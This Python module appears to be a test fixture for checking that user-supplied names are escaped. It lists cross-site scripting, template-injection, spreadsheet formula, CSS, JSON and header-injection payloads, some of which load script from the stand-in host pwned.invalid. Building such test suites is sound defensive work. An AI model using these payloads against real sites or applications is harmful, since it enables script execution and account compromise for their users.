"""What somebody would put into a name to have a script run where it is read.

Each does one of four things where it is not escaped, and a page is looked at for all of them: it
runs (`pwned()`), it leaves an element with `data-pwned`, it asks the host `pwned.invalid` for
something, or the content policy refuses it, which is a failure to escape as well.
"""

from __future__ import annotations

RUN = "pwned()"

HTML = [
    "<script>pwned()</script>",
    "<ScRiPt data-pwned>pwned()</sCrIpT>",
    "<script src=//pwned.invalid/a.js></script>",
    "</script><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea><img data-pwned src=x onerror=pwned()>",
    "<img data-pwned src=x onerror=pwned()>",
    "<img/src=x/onerror=pwned()/data-pwned>",
    '<IMG """><SCRIPT>pwned()</SCRIPT>">',
    "<body data-pwned onload=pwned()>",
    "<iframe data-pwned srcdoc='<script>parent.pwned()</script>'>",
    "<details data-pwned open ontoggle=pwned()>",
    "<video data-pwned><source onerror=pwned()></video>",
    "<audio data-pwned src=x onerror=pwned()>",
    "<input data-pwned autofocus onfocus=pwned()>",
    "<marquee data-pwned onstart=pwned()>",
    "<b data-pwned>bold</b>",
    "<!--><img data-pwned src=x onerror=pwned()>-->",
    "<meta http-equiv=refresh content='0;url=//pwned.invalid'>",
    "<base href=//pwned.invalid/>",
    "<form data-pwned action=//pwned.invalid><button>Sign in</button></form>",
    "<object data-pwned data=//pwned.invalid></object>",
    "<link rel=stylesheet href=//pwned.invalid/a.css>",
    "<div data-pwned hx-get=//pwned.invalid hx-trigger=load></div>",
]
ATTRIBUTE = [
    '" autofocus onfocus=pwned() data-pwned="',
    "' autofocus onfocus=pwned() data-pwned='",
    '" onmouseover="pwned()" data-pwned="',
    '"><img data-pwned src=x onerror=pwned()>',
    "'><img data-pwned src=x onerror=pwned()>",
    "x data-pwned onerror=pwned() src=x ",
    "` data-pwned onmouseover=pwned() `",
    '" style="animation-name:x" onanimationstart="pwned()" data-pwned="',
]
SVG = [
    "<svg data-pwned onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg data-pwned><animate onbegin=pwned() attributeName=x>",
    "<svg><a xlink:href='javascript:pwned()' data-pwned><text>x</text></a></svg>",
    "</svg><img data-pwned src=x onerror=pwned()>",
    "</text></svg><script>pwned()</script>",
    "<math data-pwned><mtext><img src=x onerror=pwned()></mtext></math>",
]
ADDRESS = [
    "javascript:pwned()",
    "JaVaScRiPt:pwned()//",
    "java\tscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "//pwned.invalid/a",
    "..%2f..%2f<script>pwned()</script>.html",
]
TEMPLATE = [
    "{{ 7|add:'7' }}{% debug %}",
    "{% include 'admin/login.html' %}",
    "${pwned()}",
    "{{constructor.constructor('pwned()')()}}",
    "<%= pwned() %>",
    "#{pwned()}",
]
UNICODE = [
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "\u202e<img data-pwned src=x onerror=pwned()>\u202c",
    "<\u200bscript>pwned()</script>",
    "&lt;img data-pwned src=x onerror=pwned()&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
]
STYLE = [
    "</style><script>pwned()</script>",
    "<style>@import '//pwned.invalid/a.css';</style>",
    "red;background:url(//pwned.invalid/a.png)",
    '" style="background:url(//pwned.invalid/a.png)" data-pwned="',
]
JSON = [
    "</script><!--<script>pwned()//",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    '"};pwned();//',
    "\u2028pwned()//",
]
MARKDOWN = ["[x](javascript:pwned())", "![x](//pwned.invalid/a.png)"]
FORMULA = [
    '=HYPERLINK("//pwned.invalid","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
]
HEADER = ["x\r\nBcc: all@pwned.invalid", "x\nSet-Cookie: pwned=1\n\n<script>pwned()</script>"]

PAYLOADS = [
    *(*HTML, *ATTRIBUTE, *SVG, *ADDRESS, *TEMPLATE, *UNICODE),
    *(*STYLE, *JSON, *MARKDOWN, *FORMULA, *HEADER),
]
